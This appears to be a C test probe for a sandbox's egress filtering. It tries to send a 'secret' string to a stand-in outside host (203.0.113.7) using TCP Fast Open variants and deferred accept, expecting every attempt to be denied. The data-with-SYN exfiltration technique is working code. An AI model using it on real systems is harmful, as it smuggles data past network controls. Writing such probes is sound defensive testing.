/*
 * id: NT-56.data-with-syn   class: EXFIL   limits: wallClockSeconds=40
 * expect-phase: succeeded   expect-stdout: ^done$   expect-not: HELD
 * expect-sum: egress_denied tried
 * Data that travels with the first packet, before there is a connection: fast
 * open in its three ways, and deferred accept. Each is one attempt, and not a
 * byte comes back.
 */
#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include "probe.h"

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static long tried;

static void listen_for(int fd)
{
	struct pollfd wait = { .fd = fd, .events = POLLIN };
	char byte;

	if (poll(&wait, 1, 3000) > 0 && recv(fd, &byte, 1, 0) > 0)
		held("an answer", byte);
	close(fd);
}

int main(void)
{
	static const char secret[] = "secret";
	int on = 1;

	for (int i = 0; i < 60; i++) {
		struct sockaddr_in to = { .sin_family = AF_INET,
					  .sin_port = htons(4000 + i) };
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		inet_pton(AF_INET, "203.0.113.7", &to.sin_addr);
		tried++;
		if (i % 3 == 0) {
			if (sendto(fd, secret, sizeof(secret), MSG_FASTOPEN,
				   (void *)&to, sizeof(to)) < 0 &&
			    (errno == EOPNOTSUPP || errno == EPERM ||
			     errno == EINVAL || errno == EPIPE ||
			     errno == ENOTCONN))
				tried--; /* it wasn't even begun */
		} else {
			if (i % 3 == 1)
				setsockopt(fd, IPPROTO_TCP,
					   TCP_FASTOPEN_CONNECT, &on,
					   sizeof(on));
			else
				setsockopt(fd, IPPROTO_TCP, TCP_DEFER_ACCEPT,
					   &on, sizeof(on));
			connect(fd, (void *)&to, sizeof(to));
			send(fd, secret, sizeof(secret), MSG_NOSIGNAL);
		}
		listen_for(fd);
	}
	printf("tried %ld\n", tried);
	puts("done");
}
